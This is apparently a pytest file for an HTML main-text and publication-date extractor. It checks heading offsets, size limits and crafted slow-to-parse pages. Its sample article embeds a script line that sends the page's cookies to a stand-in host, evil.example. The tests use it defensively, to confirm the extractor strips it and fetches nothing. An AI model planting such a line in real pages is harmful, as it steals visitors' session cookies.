"""The main text of an HTML page (trafilatura), its publication date (htmldate), where a
heading is in the raw HTML, and pages that are tiny, bare lists, huge or hostile."""

from __future__ import annotations

import socket
import time
import urllib.request
from datetime import date

import pytest

from evidence.pages.html import (
    MAX_HTML_CHARS,
    PageTooLarge,
    extract,
    main_text,
    source_offset,
)

ARTICLE = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Recap | Cluster Portal</title>
<meta property="article:published_time" content="2021-10-22T09:30:00+02:00">
<script>fetch('http://evil.example/steal?c=' + document.cookie)</script></head><body>
<div id="cookie-consent" class="cookie-banner"><p>This website uses cookies to improve
your experience. By continuing you accept our cookie policy.</p><button>Accept</button></div>
<header><nav class="main-menu"><ul><li><a href="/">Home</a></li><li><a href="/news">News</a>
</li><li><a href="/events">Events</a></li></ul></nav></header>
<main><article>
<h1 class="title">Recap of the regional&nbsp;matchmaking day</h1>
<div class="submitted">Submitted by Jana Example on 22 October 2021</div>
<p>The regional matchmaking day for manufacturing companies was held on 20 October in the
conference hall of the science park. Around forty firms from three countries met potential
partners in short pre-arranged meetings.</p>
<p>The programme started with a welcome by the cluster manager, followed by a panel on
supply chains and digital tools. The bilateral talks went on until the evening.</p>
<h2>What comes <em>next</em> &amp; when</h2>
<p>The next round of meetings is planned for 15 January.</p>
<ul><li>Online registration for all members</li><li>A short profile of each company</li></ul>
</article></main>
<aside class="sidebar"><h2>Upcoming events</h2><ul><li><a href="/e/1">Energy forum 3. 3. 2022</a>
</li><li><a href="/e/2">Members meeting 10. 4. 2022</a></li></ul></aside>
<section class="comments"><h2>Comments</h2><p>Great event! Posted on 23 October 2021</p></section>
<footer><p>© 2023 Cluster Portal. All rights reserved.</p></footer>
</body></html>"""


@pytest.fixture()
def offline(monkeypatch: pytest.MonkeyPatch) -> None:
    """No socket may connect and nothing may be opened by URL while a page is read."""

    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError(f"something was fetched: {args!r}")

    monkeypatch.setattr(urllib.request, "urlopen", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)


@pytest.mark.usefixtures("offline")
def test_the_article_without_menus_banners_sidebars_comments_and_footer() -> None:
    found = extract(ARTICLE)
    assert found.method == "main text" and found.why == ""
    assert found.published == date(2021, 10, 22)
    assert found.headings == ("Recap of the regional matchmaking day", "What comes next & when")
    blocks = found.text.split("\n\n")
    # every heading is a block of its own line, between blank lines
    assert blocks[0] == "Recap of the regional matchmaking day"
    assert "What comes next & when" in blocks
    assert "• Online registration for all members\n• A short profile of each company" in blocks
    assert "held on 20 October" in found.text and "Submitted by Jana Example" in found.text
    for noise in ("cookie", "Home", "Energy forum", "2022", "Great event", "© 2023", "evil"):
        assert noise not in found.text, noise
    assert main_text(ARTICLE) == (found.text, found.published)


@pytest.mark.usefixtures("offline")
def test_the_date_is_only_one_the_markup_states() -> None:
    meta = '<meta property="article:published_time" content="2021-10-22T09:30:00+02:00">'
    no_meta = ARTICLE.replace(meta, "")
    no_meta = no_meta.replace(' class="submitted"', "")
    assert extract(no_meta).published is None  # dates in the text are never guessed at
    timed = no_meta.replace("<main>", '<main><time datetime="2020-03-05">5 March</time>')
    assert extract(timed).published == date(2020, 3, 5)


@pytest.mark.usefixtures("offline")
def test_a_page_that_looks_like_a_url_is_not_fetched() -> None:
    for page in ("http://evil.example/x", "https://evil.example/2021/10/22/x.html", ""):
        found = extract(page)  # the fixture fails the test on any connection
        assert found.published is None and found.text == page


@pytest.mark.usefixtures("offline")
def test_a_tiny_page_is_read_whole_with_its_headings() -> None:
    page = (
        "<html><body><h2>Grow your region 6. 11. 2017</h2><p>We took part.</p>"
        "<script>alert('12. 3. 2019')</script><h2>No date here</h2><p>Just words.</p>"
        "</body></html>"
    )
    found = extract(page)
    assert found.method == "whole body" and found.why
    assert (
        found.text == "Grow your region 6. 11. 2017\n\nWe took part.\n\nNo date here\n\nJust words."
    )
    assert found.headings == ("Grow your region 6. 11. 2017", "No date here")


@pytest.mark.usefixtures("offline")
def test_a_short_article_keeps_its_structure() -> None:
    page = (
        "<html><body><nav><ul><li><a href='/'>Home</a></li><li><a href='/n'>News</a></li></ul>"
        "</nav><article><h1>Workshop on batteries</h1><p>The workshop took place in Brno.</p>"
        "<h2>Next steps</h2><p>A second workshop is planned.</p></article>"
        "<footer><p>© 2023 The Cluster</p></footer></body></html>"
    )
    found = extract(page)
    assert found.method == "main text"
    assert found.text.split("\n\n") == [
        "Workshop on batteries", "The workshop took place in Brno.", "Next steps",
        "A second workshop is planned.",
    ]  # fmt: skip


@pytest.mark.usefixtures("offline")
def test_a_page_that_is_only_a_list_is_read_whole() -> None:
    page = (
        "<html><body><ul><li>12. 3. 2019 Workshop on hydrogen</li>"
        "<li>4. 4. 2019 Members meeting</li></ul></body></html>"
    )
    found = extract(page)
    assert found.method == "whole body" and found.why == "no main text was found in the page"
    assert found.text == "• 12. 3. 2019 Workshop on hydrogen\n\n• 4. 4. 2019 Members meeting"


def test_a_page_over_the_limit_is_refused_with_its_size() -> None:
    with pytest.raises(PageTooLarge, match=r"10,000,001 characters, more than the 10,000,000"):
        extract("x" * (MAX_HTML_CHARS + 1))


@pytest.mark.usefixtures("offline")
def test_crafted_pages_are_read_in_seconds() -> None:
    pages = [
        "<html><body>" + "<a" * 300_000 + "</body></html>",  # unclosed tags
        "<div>" * 100_000 + "x",  # deep nesting
        "<ul>" + "<li>6. 11. 2017 x" * 60_000,  # more elements than an article has
    ]
    for page in pages:
        started = time.perf_counter()
        extract(page)
        source_offset(page, "x x x y")
        assert time.perf_counter() - started < 30


def test_source_offset_points_at_the_heading_in_the_raw_html() -> None:
    at = source_offset(ARTICLE, "Recap of the regional matchmaking day")
    assert at is not None and ARTICLE[at:].startswith('<h1 class="title">Recap')
    at = source_offset(ARTICLE, "What comes next & when")  # an entity and an inline tag
    assert at is not None and ARTICLE[at:].startswith("<h2>What comes <em>")
    at = source_offset(ARTICLE, "held on 20 October in the conference hall")  # a line break
    assert at is not None and ARTICLE[at:].startswith("held on 20 October in the\nconference")
    at = source_offset(ARTICLE, "The regional matchmaking day for")  # opens a paragraph
    assert at is not None and ARTICLE[at:].startswith("<p>The regional matchmaking day")
    assert source_offset(ARTICLE, "words the page does not have") is None
    assert source_offset(ARTICLE, "   ") is None


def test_source_offset_prefers_a_heading_to_a_menu() -> None:
    page = (
        "<html><head><title>Cluster days</title></head><body><nav><a href='/d'>Cluster days"
        "</a></nav><p>Text.</p><h3><a id='x'>Cluster days</a></h3><p>More.</p></body></html>"
    )
    at = source_offset(page, "Cluster days")
    assert at is not None and page[at:].startswith("<h3><a id='x'>Cluster days")
    menu_only = page.replace("<h3><a id='x'>Cluster days</a></h3>", "")
    at = source_offset(menu_only, "Cluster days")  # in the body, not in <title>
    assert at is not None and menu_only[at:].startswith("<nav><a href='/d'>")
